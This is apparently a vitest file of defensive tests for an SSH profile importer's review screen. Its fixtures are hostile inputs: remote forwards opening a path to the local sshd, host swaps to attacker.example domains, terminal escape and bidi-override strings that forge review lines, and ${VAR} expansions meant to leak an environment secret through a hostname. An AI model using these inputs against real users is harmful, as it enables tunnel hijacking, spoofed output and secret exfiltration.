// Hostile review of the import boundary: each test is a way a received file made the review lie,
// or reached past it, on the code as merged; each asserts the outcome the boundary promises.
import { afterEach, describe, expect, it } from 'vitest';
import { formatReview, reviewImport, type ImportReview } from '../app/profiles/importReview.js';
import { importSshConfigText } from '../app/profiles/sshConfig.js';
import { parseProfile } from '../app/profiles/validate.js';
import type { Profile } from '../app/profiles/schema.js';

const ssh = (overrides: Record<string, unknown> = {}) => ({ id: 'db', name: 'Database', server: { host: 'db.example.com', user: 'app' }, forwards: [{ type: 'local', bindPort: 13306, targetHost: '10.0.4.12', targetPort: 3306 }], ...overrides });

function review(incoming: unknown, existing: Profile[] = []): ImportReview {
  const r = reviewImport(existing, JSON.stringify(incoming));
  if ('error' in r) throw new Error(r.error);
  return r.review;
}

function saved(input: unknown): Profile {
  const p = parseProfile(input);
  if (!p.ok) throw new Error(JSON.stringify(p.errors));
  return p.value;
}

describe('review2: what the import review must not hide', () => {
  it('a remote forward lets the (possibly hostile) server connect into this machine: the review warns and names the target', () => {
    // -R 2222:localhost:22 on the sender's server: whoever is on that server reaches the person's own sshd.
    const r = review(ssh({ server: { host: 'attacker.example' }, forwards: [{ type: 'remote', bindPort: 2222, targetHost: 'localhost', targetPort: 22 }] }));
    const f = r.entries[0]!.findings.filter((x) => x.field.startsWith('forwards[0]'));
    expect(f.map((x) => x.level)).toEqual(['warning']);
    expect(f[0]!.message).toContain('localhost:22');
  });

  it('an update that points a saved profile at another host says which host it replaces', () => {
    const mine = saved({ id: 'prod-db', name: 'Prod DB', server: { host: 'db.internal.corp', user: 'me' }, forwards: [{ type: 'local', bindPort: 5432, targetHost: 'localhost', targetPort: 5432 }] });
    const r = review({ id: 'prod-db', name: 'Prod DB', server: { host: 'db.attacker.example', user: 'me' }, forwards: [{ type: 'local', bindPort: 5432, targetHost: 'localhost', targetPort: 5432 }] }, [mine]);
    expect(r.entries[0]!.action).toBe('update');
    const replaced = r.entries[0]!.findings.filter((x) => x.level === 'warning');
    expect(replaced.map((x) => x.message).join('\n')).toContain('me@db.internal.corp:22');
    expect(formatReview(r)).toContain('db.internal.corp');
  });

  it('a pinned fingerprint overrides known_hosts, so it is a warning, not a note', () => {
    const r = review(ssh({ hostKey: { pinnedFingerprint: `SHA256:${'A'.repeat(43)}` } }));
    expect(r.entries[0]!.findings.map((x) => `${x.level} ${x.kind}`)).toEqual(['warning pinnedFingerprint']);
  });

  it('names, users and paths from the file cannot move the cursor, erase lines or reorder text in the review', () => {
    const r = review([
      ssh({ id: 'a', name: 'ok\u001b[1A\u001b[2K\rall clear\nupdate    b (fake)', server: { host: 'h.example' } }),
      ssh({ id: 'b', name: 'Prod\u202e', server: { host: 'h.example', auth: { method: 'key', keyFiles: ['/k\u0085\u2066x'] } } }),
      // A user name goes to the server as well: the schema refuses it outright, and the reason is shown escaped.
      ssh({ id: 'c', name: 'c', server: { host: 'h.example', user: 'u\u001b]0;title\u0007' } }),
    ]);
    expect(r.skipped).toEqual([{ entry: '#3 (c)', reason: 'server.user: must not contain control characters' }]);
    const text = formatReview(r);
    // Only the line breaks the review itself puts between lines; nothing else below U+0020 or in C1, no bidi or zero-width marks.
    // eslint-disable-next-line no-control-regex -- control characters are what this test looks for
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
    expect(text.split('\n').filter((l) => /^(add|update|unchanged)\s/.test(l))).toHaveLength(2);
    // The page shows the same strings: no bidi override reaches it either.
    expect(JSON.stringify(r)).not.toMatch(/\u202e|\u2066/);
  });
});

describe('review2: a received ssh_config does not read the environment', () => {
  const SECRET = 'AKIAREVIEW2SECRET';
  afterEach(() => {
    delete process.env.REVIEW2_SECRET;
  });

  it.each([
    ['HostName', 'Host a\n  HostName ${REVIEW2_SECRET}.attacker.example\n  LocalForward 1234 db:5432\n'],
    ['IdentityFile', 'Host a\n  HostName a.example\n  IdentityFile ~/${REVIEW2_SECRET}\n  LocalForward 1234 db:5432\n'],
    ['UserKnownHostsFile', 'Host a\n  HostName a.example\n  UserKnownHostsFile ~/.ssh/known_hosts_${REVIEW2_SECRET}\n  LocalForward 1234 db:5432\n'],
  ])('${VAR} in %s is not expanded (it would name a secret in a host name, a path, or the page)', (_keyword, text) => {
    process.env.REVIEW2_SECRET = SECRET;
    const imported = importSshConfigText(text);
    expect(JSON.stringify(imported)).not.toContain(SECRET);
    // Refused, not silently passed through as a literal "${…}".
    expect(imported.ok && imported.value.profiles.length).toBe(0);
  });

  it('a refused value is not quoted back (a file picked by mistake may hold a secret on a Port line)', () => {
    const imported = importSshConfigText('Host a\n  HostName a.example\n  Port hunter2-secret\n  LocalForward 1234 db:5432\n');
    expect(JSON.stringify(imported)).not.toContain('hunter2-secret');
  });
});
